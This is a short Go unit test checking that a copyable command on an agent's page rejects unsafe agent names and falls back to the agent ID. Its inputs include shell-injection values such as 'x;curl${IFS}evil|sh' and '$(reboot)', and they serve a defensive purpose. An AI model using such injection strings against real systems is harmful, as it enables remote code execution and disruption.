package web

import (
	"testing"

	"github.com/tocsin-events/tocsin/internal/agent"
)

// The command that people copy from an agent's page runs nothing that the agent chose.
func TestAgentCommand(t *testing.T) {
	for name, want := range map[string]string{
		"web-1.example.com":     "tocsin agents web-1.example.com",
		"x;curl${IFS}evil|sh":   "tocsin agents a-1",
		"$(reboot)":             "tocsin agents a-1",
		"--help":                "tocsin agents a-1",
		"'":                     "tocsin agents a-1",
		"h\u00f6st.example.com": "tocsin agents a-1",
	} {
		if got := agentCommand(&agent.Row{ID: "a-1", Report: agent.Report{Name: name}}); got != want {
			t.Errorf("%s: %s, want %s", name, got, want)
		}
	}
}
